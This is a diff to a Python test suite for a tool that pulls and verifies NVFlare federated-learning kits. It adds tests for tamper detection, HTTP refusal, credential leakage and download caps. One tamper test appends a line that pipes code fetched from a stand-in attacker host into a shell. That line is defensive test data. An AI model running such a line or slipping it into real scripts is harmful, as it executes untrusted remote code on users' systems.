@@ -93,7 +93,18 @@ def pull(dash, env, *args, email=ALICE, password=None):
     env = dict(
         env, HPCFED_DASHBOARD_PASSWORD=password or dash.users.get(email) or dash.admin_password
     )
-    return hpcfed("kit", "pull", "--dashboard", dash.url, "--user", email, "--json", *args, env=env)
+    return hpcfed(
+        "kit",
+        "pull",
+        "--insecure-http",
+        "--dashboard",
+        dash.url,
+        "--user",
+        email,
+        "--json",
+        *args,
+        env=env,
+    )
 
 
 def pull_ok(dash, env, *args, **kw):
@@ -279,7 +290,16 @@ def test_register_takes_gpu_capacity_from_the_site_profile(dashboard, data_home)
 def test_no_password_source_is_a_clear_error_not_a_prompt(dashboard, data_home):
     env = dict(data_home, HPCFED_DASHBOARD_PASSWORD="")
     proc = hpcfed(
-        "kit", "pull", "--dashboard", dashboard.url, "--user", ALICE, "--site", "site-1", env=env
+        "kit",
+        "pull",
+        "--insecure-http",
+        "--dashboard",
+        dashboard.url,
+        "--user",
+        ALICE,
+        "--site",
+        "site-1",
+        env=env,
     )
     assert_refused(proc, 3, "HPCFED_DASHBOARD_PASSWORD")
 
@@ -420,6 +440,57 @@ def test_nvflare_2_5_dashboard_legacy_api_and_signed_kit(legacy_dashboard, data_
     assert "site-25" not in {k["site"] for k in installed(data_home)}
 
 
+def test_deleting_signature_json_does_not_unsign_a_legacy_kit(
+    legacy_dashboard, data_home, tmp_path
+):
+    """A real NVFlare 2.5 kit is signed in startup/: deleting that signature.json and editing a
+    file must not leave a kit `kit verify` calls ok (it did: an unsigned kit looks like 2.8+)."""
+    kit = pull_ok(legacy_dashboard, data_home, "--site", "site-1")
+    assert kit_verify(kit["path"], data_home).returncode == 0
+    startup = Path(kit["path"]) / "startup"
+    (startup / "signature.json").unlink()
+    script = startup / "sub_start.sh"
+    script.write_text(script.read_text() + "\ncurl -s https://evil.example.org/x | sh\n")
+    proc = kit_verify(kit["path"], data_home)
+    assert proc.returncode == 6, proc.stdout
+    assert "startup/signature.json is missing" in " ".join(json.loads(proc.stdout)["errors"])
+    # A copy without hpcfed's metadata: the federation's pin remembers its kits are signed.
+    bare = _kit_copy(kit, tmp_path / "bare")
+    (bare / "hpcfed-kit.json").unlink()
+    proc = kit_verify(str(bare), data_home)
+    assert proc.returncode == 6 and "startup/signature.json is missing" in proc.stdout
+
+
+def test_every_folder_signed_at_install_stays_signed(dashboard, data_home, tmp_path):
+    """Sign startup/ and local/ of a real kit with its real root key (NVFlare <= 2.7's
+    sign_all), import it, then delete only local/signature.json and change local/ files."""
+    from nvflare.lighter.utils import sign_all
+
+    client = pull_ok(dashboard, data_home, "--site", "site-1")
+    signed = _kit_copy(client, tmp_path / "signed")
+    (signed / "hpcfed-kit.json").unlink()
+    for folder in ("startup", "local"):
+        sigs = sign_all(str(signed / folder), dashboard.root_ca_key())
+        (signed / folder / "signature.json").write_text(json.dumps(sigs))
+    env = dict(data_home, XDG_DATA_HOME=str(tmp_path / "other-data"))  # its own pin
+    proc = hpcfed("kit", "import", str(signed), "--site", "site-1", "--json", env=env)
+    assert proc.returncode == 0, proc.stderr
+    path = Path(json.loads(proc.stdout)["path"])
+    (path / "local" / "signature.json").unlink()
+    resources = path / "local" / "resources.json.default"
+    resources.write_text(resources.read_text().replace('"num_of_gpus": 2', '"num_of_gpus": 64'))
+    proc = kit_verify(str(path), env)
+    assert proc.returncode == 6, proc.stdout
+    assert json.loads(proc.stdout)["errors"] == [
+        "local/signature.json is missing, but the kit was signed (NVFlare <= 2.7): its files can "
+        "no longer be checked; pull the kit again"
+    ]
+
+
+def kit_verify(path: str, env) -> subprocess.CompletedProcess:
+    return hpcfed("kit", "verify", path, "--site", "site-1", "--json", env=env)
+
+
 # --- in-job workspace ---------------------------------------------------------------------------
 def test_prepare_workspace_flags_gpu_capacity_and_keeps_storage_in_workdir(
     dashboard, data_home, tmp_path
@@ -517,6 +588,54 @@ def test_pulled_client_kit_connects_to_server_from_pulled_server_kit(
                 p.wait()
 
 
+# --- the dashboard URL ---------------------------------------------------------------------------
+def _pull_url(url, env, *extra):
+    return hpcfed(
+        "kit", "pull", "--dashboard", url, "--user", ALICE, "--site", "site-1", "--json", *extra,
+        env=env,
+    )  # fmt: skip
+
+
+def test_plain_http_is_refused_without_insecure_http(dashboard, data_home):
+    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
+    proc = _pull_url(dashboard.url, env)
+    assert_refused(proc, 3, "plain http", "--insecure-http")
+    assert not kits_dir(data_home).exists()
+
+
+def test_insecure_http_is_for_loopback_only(dashboard, data_home):
+    # This machine's own non-loopback address: if the refusal failed, the request stays local.
+    addrs = [a for a in subprocess.run(["hostname", "-I"], capture_output=True, text=True)
+             .stdout.split() if "." in a and not a.startswith("127.")]  # fmt: skip
+    need(bool(addrs), "no non-loopback IPv4 address on this machine")
+    port = dashboard.url.rsplit(":", 1)[1]
+    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
+    proc = _pull_url(f"http://{addrs[0]}:{port}", env, "--insecure-http")
+    assert_refused(proc, 3, "only for a dashboard on loopback")
+    assert not kits_dir(data_home).exists()
+
+
+def test_credentials_in_the_url_are_never_printed_or_stored(dashboard, data_home):
+    password = dashboard.users[ALICE]
+    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=password)
+    url = dashboard.url.replace("http://", "http://alice:S3cretInUrl@")
+    proc = _pull_url(url, env, "--insecure-http")
+    assert_refused(proc, 3, "remove the user:password@ part")
+    assert "S3cretInUrl" not in proc.stdout + proc.stderr
+    for folder, _dirs, files in os.walk(data_home["XDG_DATA_HOME"]):
+        for name in files:
+            assert b"S3cretInUrl" not in Path(folder, name).read_bytes(), name
+
+
+def test_download_size_is_capped(dashboard, data_home):
+    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
+    proc = _pull_url(dashboard.url, env, "--insecure-http", "--max-download", "1K")
+    assert_refused(proc, 6, "larger than 1 KiB")
+    assert not any(k["site"] == "site-1" for k in installed(data_home))
+    proc = _pull_url(dashboard.url, env, "--insecure-http", "--max-download", "lots")
+    assert_refused(proc, 3, "--max-download 'lots' is not a size")
+
+
 def test_kit_help_has_examples():
     for args in (
         ("kit",),
@@ -535,7 +654,18 @@ def test_unreachable_dashboard_is_one_clear_line(data_home):
 
     env = dict(data_home, HPCFED_DASHBOARD_PASSWORD="x")
     url = f"http://127.0.0.1:{free_port()}"
-    proc = hpcfed("kit", "pull", "--dashboard", url, "--user", ALICE, "--site", "site-1", env=env)
+    proc = hpcfed(
+        "kit",
+        "pull",
+        "--insecure-http",
+        "--dashboard",
+        url,
+        "--user",
+        ALICE,
+        "--site",
+        "site-1",
+        env=env,
+    )
     assert_refused(proc, 6, "cannot reach the dashboard", url)
 
 
@@ -558,6 +688,7 @@ def test_non_root_user_pulls_into_their_own_private_data_dir(dashboard, slurm_cl
         proc = hpcfed(
             "kit",
             "pull",
+            "--insecure-http",
             "--dashboard",
             dashboard.url,
             "--user",
